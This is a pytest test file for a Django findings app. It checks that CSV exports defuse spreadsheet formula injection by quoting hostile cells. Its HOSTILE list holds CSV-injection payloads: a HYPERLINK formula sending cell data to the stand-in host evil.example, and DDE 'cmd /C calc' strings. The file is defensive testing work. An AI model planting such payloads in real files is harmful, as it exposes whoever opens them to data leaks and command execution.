"""CSV out never carries a live spreadsheet formula (OWASP, "CSV Injection")."""

from __future__ import annotations

import csv
import io

import pytest
from django.core.cache import cache
from django.core.management import call_command

from findings.models import Finding
from findings.selectors.reports import csv_safe
from tests.findings.test_dashboard_board import make_findings

pytestmark = pytest.mark.django_db

HOSTILE = [
    '=HYPERLINK("http://evil.example/?leak="&A1,"click")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+9)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    '\uff1dHYPERLINK("http://evil.example/")',
]


def test_a_formula_cell_is_quoted_and_keeps_its_text():
    row = {"title": HOSTILE[0], "path": "src/app.py", "line": 12, "empty": "", "neg": -3}

    safe = csv_safe(row)

    assert safe["title"] == "'" + HOSTILE[0]
    assert safe["path"] == "src/app.py" and safe["line"] == 12 and safe["neg"] == -3
    assert safe["empty"] == ""
    assert [csv_safe({"c": text})["c"] for text in HOSTILE] == ["'" + text for text in HOSTILE]


def test_the_status_report_csv_writes_hostile_titles_and_paths_as_text(owner_client, acme):
    cache.clear()
    for text in HOSTILE:
        make_findings(acme, 1, status="verified", title=text, path=text)

    body = b"".join(owner_client.get("/p/ACME/report.csv").streaming_content).decode()
    rows = list(csv.DictReader(io.StringIO(body, newline="")))

    assert len(rows) == len(HOSTILE)
    for row in rows:
        assert row["title"].startswith("'") and row["location"].startswith("'"), row
    stored = set(Finding.objects.filter(project=acme).values_list("title", flat=True))
    assert {row["title"][1:] for row in rows} == stored


def test_the_export_command_csv_writes_hostile_paths_tools_and_rules_as_text(acme, tmp_path):
    for text in HOSTILE:
        make_findings(acme, 1, path=text, tool="@" + text)
    Finding.objects.filter(project=acme).update(rule_id="=1+1")
    target = tmp_path / "out.csv"

    call_command("export", project="ACME", fmt="csv", output=str(target))

    rows = list(csv.DictReader(target.open(newline="")))
    assert len(rows) == len(HOSTILE)
    for row in rows:
        assert row["path"].startswith("'") and row["tool"].startswith("'@"), row
        assert row["rule"] == "'=1+1"
        assert row["key"].startswith("ACME-") and row["start_line"].isdigit()
    assert sorted(row["path"][1:] for row in rows) == sorted(HOSTILE)
